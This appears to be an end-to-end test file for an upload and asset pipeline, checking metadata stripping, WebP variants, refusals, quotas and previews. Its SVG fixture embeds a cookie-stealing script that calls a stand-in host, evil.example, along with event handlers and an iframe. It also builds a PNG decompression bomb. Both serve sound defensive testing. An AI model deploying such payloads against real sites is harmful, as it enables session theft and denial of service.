import { crc32, deflateSync } from 'node:zlib';
import { jest } from '@jest/globals';
import { S3ObjectStore } from '@studio/files';
import { Queue } from 'bullmq';
import pg from 'pg';
import sharp from 'sharp';
import type { Socket } from 'socket.io-client';
import { unzip } from '../../libs/files/src/testing/unzip.js';
import { API_URL, Client, connectSocket, emitWithAck, eventually, type Json, type SignedUp, signUp } from './support/api.js';
import { AppProcess, freePort, waitForHealth } from './support/apps.js';
import { previewRequest, signInToPreview, startPreview } from './support/previews.js';
import { EventLog } from './support/turns.js';

jest.setTimeout(180_000);

/**
 * Uploads against the real stack and object store (docs/API.md "Assets and uploads", docs/ARCHITECTURE.md
 * "Assets"): bytes PUT straight to the store through the presigned URL, completed, checked and cleaned by the
 * worker, committed as a `source: "user"` version with WebP variants and metadata; every refusal with its code
 * and nothing left behind; the asset served by a preview and inside a source export.
 */
let owner: SignedUp;
let socket: Socket;
let log: EventLog;
let db: pg.Client;
let store: S3ObjectStore;
beforeAll(async () => {
  owner = await signUp('assets');
  socket = await connectSocket(owner.accessToken);
  log = new EventLog(socket);
  db = new pg.Client({ connectionString: process.env.DATABASE_URL });
  await db.connect();
  store = S3ObjectStore.fromEnvironment();
});
afterAll(async () => {
  socket?.close();
  await db?.end();
  store?.destroy();
});

async function project(client = owner.client, joined = socket): Promise<string> {
  const created = await client.post('/api/projects', { name: 'Pictures' });
  expect(created.status).toBe(201);
  expect(await emitWithAck(joined, 'project:join', { projectId: created.body.id })).toMatchObject({ ok: true });
  return created.body.id;
}

interface Upload {
  fileName: string;
  contentType: string;
  bytes: Buffer;
  purpose?: 'asset' | 'chat';
  alt?: string;
  /** Bytes to PUT instead of `bytes` (the declared size stays `bytes.length`). */
  put?: Buffer;
}

/** Asks for a ticket and PUTs the bytes to the presigned URL with the ticket's headers, as a browser does. */
async function send(projectId: string, upload: Upload, client = owner.client): Promise<{ uploadId: string; put: number }> {
  const { bytes, put, ...body } = upload;
  const ticket = await client.post(`/api/projects/${projectId}/uploads`, { ...body, size: bytes.length });
  expect(ticket.status).toBe(201);
  expect(ticket.body).toMatchObject({ uploadId: expect.any(String), url: expect.any(String), method: 'PUT', headers: expect.any(Object) });
  // fetch sets the length from the body itself (and refuses to be told another one).
  const headers = Object.fromEntries(Object.entries(ticket.body.headers as Record<string, string>).filter(([k]) => k.toLowerCase() !== 'content-length'));
  let status: number;
  try {
    status = (await fetch(ticket.body.url, { method: 'PUT', headers, body: put ?? bytes })).status;
  } catch {
    status = 0; // the store hung up on a body longer than signed
  }
  return { uploadId: ticket.body.uploadId, put: status };
}

const complete = (projectId: string, uploadId: string, client = owner.client) => client.post(`/api/projects/${projectId}/uploads/${uploadId}/complete`);

/** Sends, completes and waits for the worker's verdict: the `upload:processed` event and the upload's view. */
async function uploadAndWait(projectId: string, upload: Upload): Promise<{ uploadId: string; event: Json; view: Json }> {
  const { uploadId, put } = await send(projectId, upload);
  expect(put).toBe(200);
  const completed = await complete(projectId, uploadId);
  expect(completed.status).toBe(202);
  const event = await log.waitFor((e) => e.name === 'upload:processed' && e.payload.uploadId === uploadId, 60_000, `upload ${uploadId} to be processed`);
  const view = (await owner.client.get(`/api/projects/${projectId}/uploads/${uploadId}`)).body;
  return { uploadId, event: event.payload, view };
}

async function raw(projectId: string, path: string, version?: number): Promise<Buffer> {
  const res = await fetch(`${API_URL}/api/projects/${projectId}/files/raw?path=${encodeURIComponent(path)}${version ? `&version=${version}` : ''}`, {
    headers: { authorization: `Bearer ${owner.accessToken}` },
  });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

const head = async (projectId: string): Promise<number> => (await owner.client.get(`/api/projects/${projectId}/versions`)).body[0].number;

async function keysUnder(prefix: string): Promise<string[]> {
  const keys: string[] = [];
  for await (const page of store.list(prefix)) keys.push(...page);
  return keys;
}

/** What a refusal must leave: the head where it was, no uploaded object, no asset row. */
async function expectNothingLeft(projectId: string, headBefore: number) {
  expect(await head(projectId)).toBe(headBefore);
  expect(await keysUnder(`projects/${projectId}/uploads/`)).toEqual([]);
  expect((await db.query('SELECT count(*)::int AS n FROM project_assets WHERE project_id = $1', [projectId])).rows[0].n).toBe(0);
}

/** A 1200×800 photo-like JPEG carrying EXIF with a GPS position and a copyright string. */
const photoWithGps = () =>
  sharp({ create: { width: 1200, height: 800, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 120, sigma: 30 } } })
    .jpeg({ quality: 80 })
    .withExif({ IFD0: { Copyright: 'Secret Camera Owner' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' } })
    .toBuffer();

/** A PNG whose header says 20000×20000 with a few bytes of data: a decompression bomb, never to be decoded. */
function pngBomb(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(20_000, 0);
  ihdr.writeUInt32BE(20_000, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(Buffer.alloc(1024))), chunk('IEND', Buffer.alloc(0))]);
}

const WEBP = (b: Buffer) => b.subarray(0, 4).toString('latin1') === 'RIFF' && b.subarray(8, 12).toString('latin1') === 'WEBP';

describe('assets', () => {
  // The photo's project, for the checks that need an asset already committed.
  let committed: { projectId: string; original: Buffer } | undefined;

  it('a photo: presigned PUT → complete → a user version with the cleaned original, WebP variants and metadata; GPS gone', async () => {
    const projectId = await project();
    const before = await head(projectId);
    const photo = await photoWithGps();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    expect(photo.includes('Secret Camera Owner')).toBe(true);

    const { uploadId, event, view } = await uploadAndWait(projectId, { fileName: 'Team Photo.JPG', contentType: 'image/jpeg', bytes: photo, alt: 'The team on the roof' });
    const path = 'public/assets/team-photo.jpg';
    expect(event).toMatchObject({ uploadId, status: 'done', version: before + 1, path });
    expect(view).toMatchObject({ id: uploadId, status: 'done', purpose: 'asset', version: before + 1 });

    const versions = (await owner.client.get(`/api/projects/${projectId}/versions`)).body;
    expect(versions[0]).toMatchObject({ number: before + 1, source: 'user', message: 'Added asset Team Photo.JPG' });
    const files = ((await owner.client.get(`/api/projects/${projectId}/files`)).body as { path: string }[]).map((f) => f.path).filter((p) => p.startsWith('public/assets/'));
    expect(files.sort()).toEqual(['public/assets/team-photo-480w.webp', 'public/assets/team-photo-960w.webp', path]);

    // The stored original: still a 1200×800 JPEG, without EXIF, GPS or the copyright string.
    const original = await raw(projectId, path);
    const meta = await sharp(original).metadata();
    expect(meta).toMatchObject({ format: 'jpeg', width: 1200, height: 800 });
    expect(meta.exif).toBeUndefined();
    expect(original.includes('Secret Camera Owner')).toBe(false);
    expect(original.includes(Buffer.from('Exif\0\0', 'latin1'))).toBe(false);
    for (const [file, width] of [
      ['public/assets/team-photo-480w.webp', 480],
      ['public/assets/team-photo-960w.webp', 960],
    ] as const) {
      const bytes = await raw(projectId, file);
      expect(WEBP(bytes)).toBe(true);
      expect((await sharp(bytes).metadata()).width).toBe(width);
    }

    const assets = await owner.client.get(`/api/projects/${projectId}/assets`);
    expect(assets.status).toBe(200);
    expect(assets.body).toEqual([
      expect.objectContaining({
        path,
        url: '/assets/team-photo.jpg',
        kind: 'image',
        contentType: 'image/jpeg',
        bytes: original.length,
        width: 1200,
        height: 800,
        dominantColor: expect.stringMatching(/^#[0-9a-f]{6}$/),
        alt: 'The team on the roof',
        variants: [
          expect.objectContaining({ path: 'public/assets/team-photo-480w.webp', width: 480, height: 320 }),
          expect.objectContaining({ path: 'public/assets/team-photo-960w.webp', width: 960, height: 640 }),
        ],
      }),
    ]);
    // Nothing of the upload itself is left in the store.
    expect(await keysUnder(`projects/${projectId}/uploads/`)).toEqual([]);

    // The asset is a file like any other: a source export holds it, byte for byte.
    const started = await owner.client.post(`/api/projects/${projectId}/exports`, { kind: 'source' });
    expect(started.status).toBe(202);
    await log.waitFor((e) => e.name === 'export:ready' && e.payload.exportId === started.body.id, 120_000, 'the source export');
    const zip = await fetch(`${API_URL}/api/exports/${started.body.id}/download`, { headers: { authorization: `Bearer ${owner.accessToken}` } });
    const entries = await unzip(Buffer.from(await zip.arrayBuffer()));
    expect(entries.get(path)?.bytes.equals(original)).toBe(true);
    expect(entries.get('public/assets/team-photo-480w.webp')?.bytes.equals(await raw(projectId, 'public/assets/team-photo-480w.webp'))).toBe(true);
    committed = { projectId, original };
  });

  // A warm preview is claimed with Vite already running and no page connected: the agent must still tell Vite
  // of files added under public/ (docker/preview/agent/vite-server.mjs filesChanged), or the asset's URL answers index.html.
  it('a running preview serves the asset at /assets/<file>', async () => {
    const { projectId, original } = committed!;
    const link = await startPreview(owner.client, projectId, log, 90_000);
    const { cookie, origin } = await signInToPreview(link);
    try {
      const served = await eventually(
        async () => {
          const res = await previewRequest(`${origin}/assets/team-photo.jpg`, { cookie });
          return res.status === 200 && String(res.headers['content-type']).startsWith('image/') ? res : undefined;
        },
        30_000,
        'the preview to serve the asset',
      );
      expect(String(served.headers['content-type'])).toMatch(/^image\/jpeg/);
      expect(Number(served.headers['content-length'])).toBe(original.length);
    } finally {
      await owner.client.delete(`/api/projects/${projectId}/preview`);
    }
  });

  it('an SVG with script, handlers and external references comes out clean, its drawing kept', async () => {
    const projectId = await project();
    const svg = Buffer.from(`<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="60" viewBox="0 0 120 60" onload="alert(1)">
  <script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
  <rect id="box" width="120" height="60" fill="#0a7" onclick="alert(2)"/>
  <image href="https://evil.example/track.png" width="10" height="10"/>
  <use xlink:href="https://evil.example/sprite.svg#x"/>
  <circle cx="30" cy="30" r="20" style="fill:url(http://evil.example/paint)"/>
  <foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>
</svg>`);
    const { event } = await uploadAndWait(projectId, { fileName: 'logo.svg', contentType: 'image/svg+xml', bytes: svg });
    expect(event).toMatchObject({ status: 'done', path: 'public/assets/logo.svg' });
    const clean = (await raw(projectId, 'public/assets/logo.svg')).toString('utf8');
    expect(clean).toContain('<rect');
    expect(clean).toContain('<circle');
    for (const bad of ['<script', 'onload', 'onclick', 'evil.example', 'foreignObject', 'iframe']) expect({ bad, found: clean.includes(bad) }).toEqual({ bad, found: false });
    const [asset] = (await owner.client.get(`/api/projects/${projectId}/assets`)).body;
    expect(asset).toMatchObject({ path: 'public/assets/logo.svg', contentType: 'image/svg+xml', width: 120, height: 60, variants: [] });
  });

  it('refuses a 20000×20000 PNG bomb (IMAGE_TOO_LARGE) and bytes of another type (ASSET_TYPE_MISMATCH), leaving nothing', async () => {
    const projectId = await project();
    const before = await head(projectId);
    const bomb = await uploadAndWait(projectId, { fileName: 'bomb.png', contentType: 'image/png', bytes: pngBomb() });
    expect(bomb.event).toMatchObject({ status: 'refused', error: { code: 'IMAGE_TOO_LARGE' } });
    expect(bomb.view).toMatchObject({ status: 'refused', error: { code: 'IMAGE_TOO_LARGE' } });
    await expectNothingLeft(projectId, before);

    const png = await sharp({ create: { width: 40, height: 40, channels: 3, background: '#123456' } })
      .png()
      .toBuffer();
    const lie = await uploadAndWait(projectId, { fileName: 'photo.jpg', contentType: 'image/jpeg', bytes: png });
    expect(lie.event).toMatchObject({ status: 'refused', error: { code: 'ASSET_TYPE_MISMATCH' } });
    const text = await uploadAndWait(projectId, { fileName: 'notes.png', contentType: 'image/png', bytes: Buffer.from('just some text, not a picture at all') });
    expect(text.event).toMatchObject({ status: 'refused', error: { code: 'ASSET_TYPE_MISMATCH' } });
    await expectNothingLeft(projectId, before);
    // Their bytes do not count against the quota once refused.
    expect((await db.query(`SELECT coalesce(sum(stored_bytes), 0)::int AS n FROM uploads WHERE project_id = $1`, [projectId])).rows[0].n).toBe(0);
  });

  it('refuses more bytes than declared: the store does not take them, or the upload is refused UPLOAD_TOO_LARGE', async () => {
    const projectId = await project();
    const before = await head(projectId);
    const declared = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#ff0000' } })
      .png()
      .toBuffer();
    const { uploadId, put } = await send(projectId, { fileName: 'big.png', contentType: 'image/png', bytes: declared, put: Buffer.concat([declared, Buffer.alloc(50_000, 7)]) });
    const completed = await complete(projectId, uploadId);
    if (put === 200) {
      // The store took them: completing (or the worker) refuses the upload.
      const refused = completed.status === 202 ? (await log.waitFor((e) => e.name === 'upload:processed' && e.payload.uploadId === uploadId, 60_000)).payload.error : completed.body.error;
      expect(refused.code).toBe('UPLOAD_TOO_LARGE');
    } else {
      // The store refused a body longer than signed: nothing arrived, so nothing completes.
      expect(completed.body.error.code).toBe('UPLOAD_INCOMPLETE');
    }
    expect((await owner.client.get(`/api/projects/${projectId}/uploads/${uploadId}`)).body.status).not.toBe('done');
    await expectNothingLeft(projectId, before);
  });

  it("a stranger cannot complete or read someone's upload (UPLOAD_NOT_FOUND), and it stays theirs", async () => {
    const projectId = await project();
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#00ff00' } })
      .png()
      .toBuffer();
    const { uploadId } = await send(projectId, { fileName: 'mine.png', contentType: 'image/png', bytes: png });
    const stranger = await signUp('assets-stranger');
    const strangerSocket = await connectSocket(stranger.accessToken);
    try {
      const theirs = await project(stranger.client, strangerSocket);
      for (const res of [
        await complete(projectId, uploadId, stranger.client),
        await complete(theirs, uploadId, stranger.client),
        await stranger.client.get(`/api/projects/${theirs}/uploads/${uploadId}`),
      ]) {
        expect(res.status).toBe(404);
        expect(res.body.error.code).toMatch(/^(UPLOAD_NOT_FOUND|PROJECT_NOT_FOUND)$/);
      }
      expect((await complete(theirs, uploadId, stranger.client)).body.error.code).toBe('UPLOAD_NOT_FOUND');
    } finally {
      strangerSocket.close();
    }
    expect((await owner.client.get(`/api/projects/${projectId}/uploads/${uploadId}`)).body.status).toBe('pending');
  });

  it('a chat picture is kept for the message, scaled, and makes no version', async () => {
    const projectId = await project();
    const before = await head(projectId);
    const shot = await sharp({ create: { width: 3000, height: 1500, channels: 3, background: '#224488' } })
      .png()
      .toBuffer();
    const { uploadId, event, view } = await uploadAndWait(projectId, { fileName: 'screenshot.png', contentType: 'image/png', bytes: shot, purpose: 'chat' });
    expect(event).toMatchObject({ uploadId, status: 'done' });
    expect(view).toMatchObject({ status: 'done', purpose: 'chat', image: { contentType: 'image/png' } });
    expect(Math.max(view.image.width, view.image.height)).toBeLessThanOrEqual(1568);
    expect(await head(projectId)).toBe(before);
    expect(await keysUnder(`projects/${projectId}/chat/`)).toEqual([`projects/${projectId}/chat/${uploadId}.png`]);
    expect(await keysUnder(`projects/${projectId}/uploads/`)).toEqual([]);
  });

  it('pending uploads nobody completes expire, and their bytes go', async () => {
    const projectId = await project();
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#abcdef' } })
      .png()
      .toBuffer();
    const { uploadId, put } = await send(projectId, { fileName: 'forgotten.png', contentType: 'image/png', bytes: png });
    expect(put).toBe(200);
    expect(await keysUnder(`projects/${projectId}/uploads/`)).toHaveLength(1);
    await db.query(`UPDATE uploads SET expires_at = now() - interval '1 minute' WHERE id = $1`, [uploadId]);
    const redis = new URL(process.env.REDIS_URL!);
    const maintenance = new Queue('maintenance', { connection: { host: redis.hostname, port: Number(redis.port) }, prefix: process.env.QUEUE_PREFIX ?? 'studio' });
    try {
      await maintenance.add('uploads.expire', {});
      await eventually(async () => ((await owner.client.get(`/api/projects/${projectId}/uploads/${uploadId}`)).body.status === 'expired' ? true : undefined), 20_000, 'the upload to expire');
      await eventually(async () => ((await keysUnder(`projects/${projectId}/uploads/`)).length === 0 ? true : undefined), 20_000, 'its bytes to go');
    } finally {
      await maintenance.close();
    }
  });
});

describe('the storage quota', () => {
  // A second API on the same services and queues with a small quota: the stack's worker processes its uploads.
  const QUOTA = 300_000;
  let api: AppProcess;
  let url: string;
  beforeAll(async () => {
    const port = await freePort();
    url = `http://127.0.0.1:${port}`;
    api = new AppProcess('api', { PORT: String(port), USER_STORAGE_QUOTA_BYTES: String(QUOTA) });
    await waitForHealth(url);
  });
  afterAll(() => api?.stop());

  it('refuses an upload that would pass the quota with STORAGE_QUOTA_EXCEEDED, counting what earlier uploads kept', async () => {
    const user = await signUp('assets-quota', url);
    const client = new Client(user.accessToken, url);
    const userSocket = await connectSocket(user.accessToken, url);
    try {
      const projectId = await project(client, userSocket);
      const userLog = new EventLog(userSocket);
      const photo = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } })
        .jpeg({ quality: 90 })
        .toBuffer();
      expect(photo.length).toBeLessThan(QUOTA);
      const first = await send(projectId, { fileName: 'first.jpg', contentType: 'image/jpeg', bytes: photo }, client);
      expect((await complete(projectId, first.uploadId, client)).status).toBe(202);
      await userLog.waitFor((e) => e.name === 'upload:processed' && e.payload.uploadId === first.uploadId && e.payload.status === 'done', 60_000, 'the first upload');
      const kept = Number((await db.query('SELECT stored_bytes FROM uploads WHERE id = $1', [first.uploadId])).rows[0].stored_bytes);
      expect(kept).toBeGreaterThan(0);

      const size = QUOTA - kept + 1;
      const refused = await client.post(`/api/projects/${projectId}/uploads`, { fileName: 'second.jpg', contentType: 'image/jpeg', size });
      expect(refused.status).toBeGreaterThanOrEqual(400);
      expect(refused.status).toBeLessThan(500);
      expect(refused.body.error).toMatchObject({ code: 'STORAGE_QUOTA_EXCEEDED' });
      // Exactly what is left still fits.
      const fits = await client.post(`/api/projects/${projectId}/uploads`, { fileName: 'second.jpg', contentType: 'image/jpeg', size: size - 1 });
      expect(fits.status).toBe(201);
    } finally {
      userSocket.close();
    }
  });
});
